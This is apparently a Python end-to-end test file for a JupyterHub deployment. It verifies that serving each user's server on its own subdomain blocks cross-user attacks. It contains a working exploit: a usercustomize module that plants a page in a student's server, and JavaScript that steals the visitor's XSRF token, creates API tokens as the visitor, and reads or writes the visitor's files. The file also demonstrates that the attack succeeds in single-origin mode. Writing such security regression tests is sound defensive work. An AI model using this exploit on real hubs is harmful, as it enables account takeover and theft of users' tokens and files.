"""Users' servers on their own origin, in a real browser (GPUHUB_USER_SUBDOMAINS=true,
the mode .env.example ships).

The stack is tests/e2e/test_browser_login.py's: the hub image, the user image, the real
OpenID Connect provider (tests/e2e/oidc), Debian's Chromium. The proxy: real Traefik where
the `traefik:v3` image exists; elsewhere configurable-http-proxy (tests/e2e/chp), here
speaking HTTPS with the wildcard certificate the hub generated and routing by host as
JupyterHub asks once subdomain_host is set (compose.chp-subdomains.yml). Chromium resolves
*.localhost to this machine, so `https://localhost:PORT` is the hub and
`https://<user>.localhost:PORT` a user's server.

What single-origin mode (GPUHUB_USER_SUBDOMAINS=false) still allows, and the last test
shows: a page served from student A's server is on the hub's origin. Its script reads
/hub/home (and the XSRF token in it) with the visitor's cookies and, with that token,
calls the hub's API as the visitor: it creates an API token for student B, which the page
could send anywhere. An admin opening the link would hand over an admin token.
`disable_user_config` and the Content-Security-Policy do not change that: the student owns
the server process (code in ~/.local runs in it), so only a separate origin protects.
"""

import json
import secrets
import socket
import ssl
from urllib.parse import urlparse

import pytest
import requests
from cryptography import x509

from . import browser as browser_helpers
from .browser import Student, add_service, browser, goto, oidc_deployment, run_a_cell, steadily  # noqa: F401
from .stack import REPO, wait_for

pytestmark = pytest.mark.e2e

LAB_NAME = "Origin Lab"
ACCOUNTS = {"ada": {"password": secrets.token_urlsafe(12), "groups": ["cs101"]},
            "bea": {"password": secrets.token_urlsafe(12), "groups": ["cs101"]}}
ARTIFACTS = REPO / "test-artifacts"


@pytest.fixture(scope="module")
def origin_stack(tmp_path_factory, docker_client, standin_bases):
    """The browser tests' deployment (tests/e2e/browser.py) on subdomains; where the
    traefik:v3 image is missing, configurable-http-proxy with --host-routing and the hub's
    certificate on the public port."""
    env = {"GPUHUB_ALLOWED_GROUPS": "cs101", "GPUHUB_LAB_NAME": LAB_NAME, "GPUHUB_VERSION": "origin"}
    tokens = {}

    def prepare(stack):
        tokens["tokens"] = add_service(stack, "e2e-tokens", ["read:tokens"],
                                       "a token that may read users' API tokens (and nothing else)")

    with oidc_deployment(tmp_path_factory, docker_client, "gpuhuborigin", ACCOUNTS, env, prepare,
                         subdomains=True) as deployment:
        wait_for(lambda: requests.get(f"{deployment.url}/hub/health", verify=False, timeout=5).ok,
                 60, f"the hub through the proxy at {deployment.url}")
        deployment.tokens_token = tokens["tokens"]
        yield deployment


class OriginStudent(Student):
    """Student (tests/e2e/browser.py) who may also reach *.localhost, the users' servers."""

    def __init__(self, browser, deployment):
        super().__init__(browser, deployment, also=lambda host: host.endswith(".localhost"))
        self.deployment = deployment

    def shot(self, name, page=None):
        super().shot(f"origin-{name}", page)


@pytest.fixture
def new_student(browser, origin_stack):
    made = []

    def make():
        made.append(OriginStudent(browser, origin_stack))
        return made[-1]
    yield make
    for s in made:
        s.close()


def sign_in(student, user):
    page = student.page
    goto(student, f"{student.url}/hub/login")
    page.get_by_role("button", name="Sign in with single sign-on").click()
    page.wait_for_url(f"{student.provider.issuer}/interaction/**")
    page.fill("#login", user)
    page.fill("#password", ACCOUNTS[user]["password"])
    page.click("#sign-in")


def server_origin(deployment, user):
    if deployment.stack.env["GPUHUB_USER_SUBDOMAINS"] == "true":
        return f"https://{user}.localhost:{deployment.port}"
    return deployment.url


def open_lab(student, user):
    browser_helpers.open_lab(student, user, server_origin(student.deployment, user))


def served_certificate(port, server_name):
    """The certificate the proxy presents for `server_name` (SNI), not verified."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        with context.wrap_socket(sock, server_hostname=server_name) as tls:
            return x509.load_der_x509_certificate(tls.getpeercert(binary_form=True))


def test_student_runs_a_cell_on_their_own_subdomain(new_student, origin_stack):
    student = new_student()
    page, stack = student.page, origin_stack.stack
    lab_headers = {}
    page.on("response", lambda r: lab_headers.update(r.headers)
            if urlparse(r.url).path == "/user/ada/lab" and r.status == 200 else None)
    try:
        sign_in(student, "ada")
        open_lab(student, "ada")
        student.shot("01-lab-on-subdomain")
        assert urlparse(page.url).hostname == "ada.localhost", page.url

        assert run_a_cell(student, "print(6*7*1000+2)") == "42002"
        student.shot("02-cell-on-subdomain")

        # the server admits only itself and the hub as frame ancestors
        assert lab_headers.get("content-security-policy", "").startswith(
            f"frame-ancestors 'self' {origin_stack.url}"), lab_headers
        # cookies: each only for the host that set it (no Domain attribute); the login
        # cookies with the __Host- prefix, which a user's subdomain cannot set for the hub
        # (the XSRF token is bound to the login, so tossing the others gains nothing)
        cookies = {(c["name"], c["domain"]) for c in student.context.cookies()
                   if c["domain"].endswith("localhost")}
        assert all(not domain.startswith(".") for _, domain in cookies), cookies
        assert ("__Host-jupyterhub-hub-login", "localhost") in cookies, cookies
        assert ("__Host-jupyterhub-user-ada", "ada.localhost") in cookies, cookies
        # the certificate served for the user's host covers it: the hub's wildcard
        cert = served_certificate(origin_stack.port, "ada.localhost")
        names = cert.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
        assert "*.localhost" in names.get_values_for_type(x509.DNSName)
        # the proxy routes the server by host (Traefik: a Host() rule, see
        # test_traefik_real.py; CHP: the host as first path segment)
        if not stack.real_traefik:
            chp = stack.container("chp")
            routes = requests.get(f"http://{stack.ip(chp)}:8001/api/routes", timeout=10, headers={
                "Authorization": f"token {stack.env['CONFIGPROXY_AUTH_TOKEN']}"}).json()
            assert "/ada.localhost/user/ada" in routes and "/user/ada" not in routes, routes
    except Exception as e:
        raise AssertionError(f"{e}\n{student.diagnostics()}") from e


# -- the attack: a page from student A's server, opened by student B --

# Student A owns their server process: a usercustomize module in ~/.local, which A can
# write from a JupyterLab terminal, runs in it at its next start (disable_user_config does
# not stop that; nbgitpuller's targetpath was one way to plant it in someone else's home).
# This one makes A's server serve attack.html to anyone, without login.
ATTACK_MODULE = r'''
import os
import sys

if "jupyterhub-singleuser" in " ".join(getattr(sys, "orig_argv", sys.argv)):
    import tornado.web

    PAGE = os.path.join(os.path.dirname(os.path.abspath(__file__)), "gpuhub_attack_page.html")

    class AttackPage(tornado.web.RequestHandler):
        def get(self):
            self.set_header("Content-Type", "text/html; charset=utf-8")
            with open(PAGE) as f:
                self.write(f.read())

    _original = tornado.web.Application.__init__

    def __init__(self, handlers=None, *args, **kwargs):
        handlers = [(r"/user/[^/]+/attack\.html", AttackPage)] + list(handlers or [])
        _original(self, handlers, *args, **kwargs)

    tornado.web.Application.__init__ = __init__
'''
ATTACK_PAGE = """<!doctype html>
<title>Nice plots</title>
<pre id="out">running</pre>
<script>
const HUB = %(hub)s, VICTIM_SERVER = %(victim_server)s, VICTIM = %(victim)s;
const seen = {};
async function attempt(name, f) {
  try { seen[name] = await f(); } catch (e) { seen[name] = {error: String(e)}; }
}
(async () => {
  // control: the script runs and may fetch from its own origin
  await attempt("own_page", async () => ({status: (await fetch(location.href)).status}));
  // 1. the visitor's hub page, for the XSRF token the hub's API wants with cookies
  let xsrf = null;
  await attempt("hub_home", async () => {
    const r = await fetch(HUB + "/hub/home", {credentials: "include"});
    const text = await r.text();
    const m = text.match(/xsrf_token:\\s*"([^"]+)"/);
    xsrf = m ? m[1] : null;
    return {status: r.status, url: r.url, xsrf_token_read: !!xsrf};
  });
  // 2. an API token of the visitor's, read back by the page
  await attempt("create_token", async () => {
    const headers = {"Content-Type": "application/json"};
    if (xsrf) headers["X-XSRFToken"] = xsrf;
    const r = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {method: "POST",
      credentials: "include", headers, body: JSON.stringify({note: "stolen by a page"})});
    const body = await r.text();
    return {status: r.status, token_read: body.includes('"token"')};
  });
  // 2b. the same blind (no-cors: the browser sends it, the page cannot read the answer)
  await attempt("create_token_blind", async () => {
    const r = await fetch(HUB + "/hub/api/users/" + VICTIM + "/tokens", {method: "POST",
      mode: "no-cors", credentials: "include", body: JSON.stringify({note: "stolen blind"})});
    return {type: r.type, status: r.status};
  });
  // 3. the visitor's files, from the visitor's server
  await attempt("list_files", async () => {
    const r = await fetch(VICTIM_SERVER + "/api/contents", {credentials: "include"});
    return {status: r.status, body: (await r.text()).slice(0, 300)};
  });
  // 3b. a new file in the visitor's home, blind
  await attempt("write_file_blind", async () => {
    const r = await fetch(VICTIM_SERVER + "/api/contents", {method: "POST", mode: "no-cors",
      credentials: "include", body: JSON.stringify({type: "file", ext: ".txt"})});
    return {type: r.type, status: r.status};
  });
  window.attackResults = seen;
  document.getElementById("out").textContent = JSON.stringify(seen, null, 1);
  document.title = "attack done";
})();
</script>
"""


def publish_attack_page(stack, user, hub, victim_server, victim):
    """As student `user` in a terminal of their own server: the page and the code that
    serves it, in their home (the test runs the commands with `docker exec` as the user)."""
    container = stack.user_container(user)
    code, out = container.exec_run(["python3", "-c", "import site; print(site.getusersitepackages())"],
                                   user="1000:100")
    assert code == 0, out
    site = out.decode().strip()
    page = ATTACK_PAGE % {"hub": json.dumps(hub), "victim_server": json.dumps(victim_server),
                          "victim": json.dumps(victim)}
    script = ("import os, sys\nsite = sys.argv[1]\nos.makedirs(site, exist_ok=True)\n"
              "for name, text in zip(sys.argv[2::2], sys.argv[3::2]):\n"
              "    open(os.path.join(site, name), 'w').write(text)\n")
    code, out = container.exec_run(
        ["python3", "-c", script, site, "usercustomize.py", ATTACK_MODULE,
         "gpuhub_attack_page.html", page],
        user="1000:100")
    assert code == 0, out.decode()


def restart_server(stack, user):
    """As the student does from the hub's control panel: stop, start."""
    if stack.api("GET", f"/users/{user}").json()["servers"].get(""):
        stack.stop_server(user)
    stack.start_server(user)


def tokens_of(deployment, user):
    r = requests.get(f"{deployment.stack.hub_url}/hub/api/users/{user}/tokens", timeout=30,
                     verify=False, headers={"Authorization": f"token {deployment.tokens_token}"})
    assert r.ok, r.text
    return [(t["id"], t.get("note") or "") for t in r.json()["api_tokens"]]


def files_of(stack, user):
    code, out = stack.user_container(user).exec_run(["ls", "-A", "/home/jovyan"])
    assert code == 0, out
    return sorted(out.decode().split())


def visit(student, url):
    """The visitor opens the link; what the page's script saw. Again if Chromium saw the
    network change meanwhile: its aborted requests would look like refused ones."""
    def open_link(attempt):
        student.page.goto(url)
        student.page.wait_for_function("document.title === 'attack done'", timeout=60_000)
        return student.page.evaluate("window.attackResults")
    return steadily(student, open_link, "the attack page")


def record(name, seen):
    ARTIFACTS.mkdir(exist_ok=True)
    (ARTIFACTS / f"origin-attack-{name}.json").write_text(json.dumps(seen, indent=1))
    print(f"\nwhat the attack page saw ({name}):\n{json.dumps(seen, indent=1)}")


def test_page_from_a_students_server_cannot_act_as_its_visitor(new_student, origin_stack):
    """Student ada publishes attack.html from her own server; student bea, signed in with
    her server running, opens the link. The page's script tries to read bea's /hub/home
    (for the XSRF token), to create an API token for bea (read back, and blind) and to
    list and add files through bea's server. In subdomain mode the page is on
    https://ada.localhost, another origin than the hub and bea's server: the browser
    keeps every answer from it, and the hub and bea's server refuse the blind requests
    (no XSRF token). Checked server-side too: bea's tokens and files are unchanged."""
    stack = origin_stack.stack
    if stack.api("GET", "/users/ada").status_code == 404:
        assert stack.api("POST", "/users/ada").status_code == 201
    if not stack.api("GET", "/users/ada").json()["servers"].get(""):
        stack.start_server("ada")
    publish_attack_page(stack, "ada", hub=origin_stack.url,
                        victim_server=f"{server_origin(origin_stack, 'bea')}/user/bea",
                        victim="bea")
    restart_server(stack, "ada")
    link = f"{server_origin(origin_stack, 'ada')}/user/ada/attack.html"

    bea = new_student()
    try:
        sign_in(bea, "bea")
        open_lab(bea, "bea")
        tokens_before, files_before = tokens_of(origin_stack, "bea"), files_of(stack, "bea")
        seen = visit(bea, link)
        bea.shot("03-attack-page-subdomains")
        record("subdomains", seen)

        assert seen["own_page"] == {"status": 200}, "the page's script ran and could fetch"
        # the browser gave the page nothing from the hub or from bea's server
        for name in ("hub_home", "create_token", "list_files"):
            assert "error" in seen[name] and "status" not in seen[name], (name, seen[name])
        # the blind requests were sent (the page cannot tell what came of them) ...
        assert seen["create_token_blind"]["type"] == "opaque", seen
        assert seen["write_file_blind"]["type"] == "opaque", seen
        # ... and refused: bea has no new token and no new file
        assert tokens_of(origin_stack, "bea") == tokens_before
        assert not [note for _, note in tokens_of(origin_stack, "bea") if "stolen" in note]
        assert files_of(stack, "bea") == files_before
        # and bea is still signed in to her own server (nothing logged her out)
        bea.page.goto(f"{server_origin(origin_stack, 'bea')}/user/bea/api/status")
        assert bea.page.locator("body").inner_text().startswith("{")
    except Exception as e:
        raise AssertionError(f"{e}\n{bea.diagnostics()}") from e


def switch_to_single_origin(deployment):
    """GPUHUB_USER_SUBDOMAINS=false in .env, hub (and proxy) restarted, as an admin would."""
    stack = deployment.stack
    for user in ("ada", "bea"):
        if stack.api("GET", f"/users/{user}").json()["servers"].get(""):
            stack.stop_server(user)
    stack.env["GPUHUB_USER_SUBDOMAINS"] = "false"
    if not stack.real_traefik:
        stack.env["GPUHUB_E2E_CHP_ROUTING"] = "--log-level=info"  # no host routing
    (stack.dir / ".env").write_text("".join(f"{k}={v}\n" for k, v in stack.env.items()))
    stack.compose("up", "-d", "chp" if not stack.real_traefik else "proxy")
    stack.compose("up", "-d", "hub")
    stack.wait_healthy()
    wait_for(lambda: requests.get(f"{deployment.url}/hub/health", verify=False, timeout=5).ok,
             60, "the hub through the proxy")


def test_single_origin_mode_lets_the_same_page_act_as_its_visitor(new_student, origin_stack):
    """What GPUHUB_USER_SUBDOMAINS=false still allows: the same page, now served from
    https://localhost/user/ada/attack.html (the hub's origin), reads bea's /hub/home with
    its XSRF token and creates an API token for bea that it can read. This is the attack
    the previous test shows refused; it is why subdomain mode is the recommended one."""
    stack = origin_stack.stack
    switch_to_single_origin(origin_stack)
    stack.start_server("ada")
    publish_attack_page(stack, "ada", hub=origin_stack.url,
                        victim_server=f"{origin_stack.url}/user/bea", victim="bea")
    bea = new_student()
    try:
        sign_in(bea, "bea")
        open_lab(bea, "bea")
        seen = visit(bea, f"{origin_stack.url}/user/ada/attack.html")
        bea.shot("04-attack-page-single-origin")
        record("single-origin", seen)
        assert seen["hub_home"]["status"] == 200 and seen["hub_home"]["xsrf_token_read"], seen
        assert seen["create_token"]["status"] in (200, 201) and seen["create_token"]["token_read"], seen
        stolen = [tid for tid, note in tokens_of(origin_stack, "bea") if note == "stolen by a page"]
        assert stolen, "the page made a token for bea"
    except Exception as e:
        raise AssertionError(f"{e}\n{bea.diagnostics()}") from e
